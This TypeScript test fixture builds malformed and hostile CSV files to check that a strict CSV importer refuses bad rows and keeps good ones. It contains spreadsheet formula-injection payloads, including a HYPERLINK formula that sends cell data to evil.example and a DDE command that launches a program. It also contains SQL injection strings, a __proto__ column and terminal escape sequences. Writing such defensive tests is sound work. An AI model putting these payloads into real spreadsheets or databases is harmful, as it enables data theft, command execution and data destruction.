import iconv from 'iconv-lite';

/** One hostile CSV file. `goodRowCount`: how many of the good rows a correct reader must keep. */
export interface HostileCsvFile {
  label: string;
  bytes: Buffer;
  goodRowCount: number;
  /** Data rows in the file that are not good rows (each must end up refused with a reason). */
  badRowCount: number;
}

/** RFC 4180 field quoting. */
export function csvField(value: string): string {
  return /[",\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
}

function line(fields: readonly string[]): string {
  return fields.map(csvField).join(',');
}

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+SUM(1+1)',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
];

/**
 * Broken CSV files around a header and some good rows (in header order). The good rows are the ones
 * a reader must keep; every other data row is hostile and must be refused with a reason. Files a
 * strict UTF-8 / RFC 4180 reader refuses as a whole (wrong encoding, unterminated quote, wrong header)
 * have goodRowCount 0. The >10 MB file is built only when its `bytes` are read.
 */
export function hostileCsvFiles(
  header: readonly string[],
  goodRows: readonly string[][],
): HostileCsvFile[] {
  const n = goodRows.length;
  const width = header.length;
  const head = line(header);
  const good = goodRows.map(line);
  const utf8 = (text: string) => Buffer.from(text, 'utf8');
  const rowsOf = (fill: (column: number) => string) => line(header.map((_, i) => fill(i)));
  const files: HostileCsvFile[] = [];
  const add = (label: string, bytes: Buffer, goodRowCount: number, badRowCount = 0) =>
    files.push({ label, bytes, goodRowCount, badRowCount });

  // Line endings, BOM, blank lines: all good rows must survive.
  add('CRLF line endings', utf8(`${[head, ...good].join('\r\n')}\r\n`), n);
  add('LF line endings, no final newline', utf8([head, ...good].join('\n')), n);
  add(
    'mixed CRLF and LF line endings',
    utf8([head, ...good].map((l, i) => `${l}${i % 2 ? '\n' : '\r\n'}`).join('')),
    n,
  );
  add(
    'UTF-8 BOM',
    Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), utf8(`${[head, ...good].join('\r\n')}\r\n`)]),
    n,
  );
  add('blank lines between rows', utf8(`${head}\r\n\r\n${good.join('\r\n\r\n')}\r\n\r\n\r\n`), n);
  add(
    'header with padded names',
    utf8(`${header.map((h) => ` ${h} `).join(',')}\n${good.join('\n')}\n`),
    n,
  );
  add('the same good rows twice', utf8(`${[head, ...good, ...good].join('\n')}\n`), n);
  {
    const order = header.map((_, i) => width - 1 - i);
    const reordered = (fields: readonly string[]) => line(order.map((i) => fields[i] ?? ''));
    add(
      'header and columns reordered consistently',
      utf8(`${[reordered(header), ...goodRows.map(reordered)].join('\n')}\n`),
      n,
    );
  }

  // Files a strict reader refuses as a whole.
  add('empty file', Buffer.alloc(0), 0);
  add('a BOM and nothing else', Buffer.from([0xef, 0xbb, 0xbf]), 0);
  add('whitespace only', utf8(' \r\n\t\r\n'), 0);
  add('header only', utf8(`${head}\r\n`), 0);
  add('no header (data first)', utf8(`${good.join('\n')}\n`), 0, n);
  add(
    'header with a duplicated column',
    utf8(
      `${head},${csvField(header[0] ?? 'id')}\n${good.map((g, i) => `${g},${csvField(goodRows[i]?.[0] ?? '')}`).join('\n')}\n`,
    ),
    0,
    n,
  );
  add(
    'header with a column missing',
    utf8(`${line(header.slice(1))}\n${goodRows.map((r) => line(r.slice(1))).join('\n')}\n`),
    0,
    n,
  );
  add(
    'header with an unknown column',
    utf8(`${head},__proto__\n${good.map((g) => `${g},x`).join('\n')}\n`),
    0,
    n,
  );
  add(
    'header names in another case',
    utf8(`${line(header.map((h) => h.toUpperCase()))}\n${good.join('\n')}\n`),
    0,
    n,
  );
  add('CR-only line endings (classic Mac)', utf8(`${[head, ...good].join('\r')}\r`), 0, n);
  add(
    'unterminated quote on the last row',
    utf8(`${[head, ...good].join('\n')}\n"never closed,${'x,'.repeat(width)}\n`),
    0,
    1,
  );
  add(
    'UTF-16LE with BOM',
    Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from(`${[head, ...good].join('\r\n')}\r\n`, 'utf16le'),
    ]),
    0,
  );
  add(
    'UTF-16BE with BOM',
    iconv.encode(`${[head, ...good].join('\r\n')}\r\n`, 'utf16-be', { addBOM: true }),
    0,
  );
  add(
    'GBK-encoded Chinese',
    iconv.encode(`${[head, ...good, rowsOf(() => '和平区路边垃圾堆放')].join('\r\n')}\r\n`, 'gbk'),
    0,
    1,
  );
  add(
    'Latin-1 encoded accents',
    iconv.encode(`${[head, ...good, rowsOf(() => 'café ñandú')].join('\r\n')}\r\n`, 'latin1'),
    0,
    1,
  );
  add(
    'invalid UTF-8 byte in a cell',
    Buffer.concat([
      utf8(`${[head, ...good].join('\n')}\nbad`),
      Buffer.from([0xc3, 0x28, 0xff]),
      utf8(`${',x'.repeat(width - 1)}\n`),
    ]),
    0,
    1,
  );
  add(
    'binary garbage',
    Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 256)),
    0,
  );

  // Mixed files: the good rows survive, each bad row is refused on its own.
  const mixed = (label: string, bad: string[]) =>
    add(label, utf8(`${head}\r\n${interleave(good, bad).join('\r\n')}\r\n`), n, bad.length);
  mixed('rows with too few columns', [
    rowsOf(() => 'x')
      .split(',')
      .slice(0, 1)
      .join(','),
    line(header.slice(0, Math.max(1, width - 1)).map(() => 'short')),
  ]);
  mixed('rows with too many columns', [`${rowsOf(() => 'x')},extra`, `${rowsOf(() => '1')},,,,`]);
  mixed(
    'formula-injection cells',
    FORMULAS.map((f) => rowsOf(() => f)),
  );
  mixed('NUL bytes in cells', [rowsOf(() => 'a\u0000b'), rowsOf(() => '\u0000')]);
  mixed('stray quote inside an unquoted cell', [line(header.map(() => 'x')).replace('x', 'x"y"z')]);
  mixed('quoted cells with embedded newlines and quotes', [
    rowsOf(() => 'multi\nline "quoted" \r\n cell'),
  ]);
  mixed('empty cells', [rowsOf(() => ''), rowsOf(() => ' ')]);
  mixed('control characters and bidi overrides', [rowsOf(() => '\u0007\u001b[2J\u202eevil')]);
  mixed('injection payloads', [
    rowsOf(() => "'; DROP TABLE cases; --"),
    rowsOf(() => '" OR 1=1'),
    rowsOf(() => '/.*/'),
  ]);
  mixed(
    'numbers that are not numbers',
    ['NaN', 'Infinity', '1e999', '0x1F', '１２'].map((v) => rowsOf(() => v)),
  );
  mixed('header repeated in the middle', [head]);
  mixed('very long cell (100 kB)', [rowsOf((i) => (i === 0 ? 'L'.repeat(100 * 1024) : 'x'))]);

  // The huge file, generated only when read.
  let huge: Buffer | null = null;
  const hugeFile: HostileCsvFile = {
    label: 'huge file (> 10 MB: the good rows and one row of 1 MB cells)',
    goodRowCount: n,
    badRowCount: 1,
    get bytes(): Buffer {
      huge ??= buildHuge(head, good, width);
      return huge;
    },
  };
  files.push(hugeFile);
  return files;
}

/** Number of bytes of the lazily built huge file's cells. */
export const HUGE_CSV_MIN_BYTES = 10 * 1024 * 1024;

function buildHuge(head: string, good: string[], width: number): Buffer {
  const cell = 'H'.repeat(Math.ceil(HUGE_CSV_MIN_BYTES / Math.max(1, width)) + 1024);
  const bad = Array.from({ length: width }, () => cell).join(',');
  return Buffer.from(`${head}\r\n${good.join('\r\n')}\r\n${bad}\r\n`, 'utf8');
}

/** good[0], bad[0], good[1], bad[1], … then the rest of either. */
function interleave(good: string[], bad: string[]): string[] {
  const out: string[] = [];
  for (let i = 0; i < Math.max(good.length, bad.length); i++) {
    if (i < good.length) out.push(good[i]!);
    if (i < bad.length) out.push(bad[i]!);
  }
  return out;
}
